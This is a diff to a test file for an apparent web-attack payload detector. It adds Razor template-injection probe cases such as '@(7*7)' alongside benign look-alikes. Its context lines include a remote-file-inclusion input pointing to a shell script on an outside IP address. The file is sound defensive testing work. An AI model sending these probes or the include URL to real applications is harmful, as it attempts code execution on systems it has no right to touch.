@@ -723,6 +723,16 @@ const NOT_GLOBBED_PATH: Case[] = [
   ["body:json", JSON.stringify({ routes: "/api/v?/users/* /usr/bin/c?" })],
 ];
 
+// Razor's explicit expression holding arithmetic on two numbers (razor.ts): ssti.
+const RAZOR_PROBE: Case[] = [
+  ["query", "name=" + encodeURIComponent("@(7*7)")],
+  ["body:json", JSON.stringify({ greeting: "Hi @( 1337 + 1 )" })],
+];
+const NOT_RAZOR_PROBE: Case[] = [
+  ["query", "q=" + encodeURIComponent("call me @(555) 123-4567")],
+  ["body:json", JSON.stringify({ tpl: "<p>@(Model.Price * Model.Count)</p>" })],
+];
+
 // Remote file inclusion (rfi.ts): a script's or a text file's URL ended by `?`: rce.
 const REMOTE_INCLUDE: Case[] = [
   ["query", "page=http://198.51.100.7/shell.txt?"],
@@ -752,6 +762,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["in a JSON document in a JSON string", "crlf|rce", NESTED_JSON, NOT_NESTED_JSON],
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
   ["globbed-path", "rce|traversal", GLOBBED_PATH, NOT_GLOBBED_PATH],
+  ["razor-probe", "ssti", RAZOR_PROBE, NOT_RAZOR_PROBE],
   ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
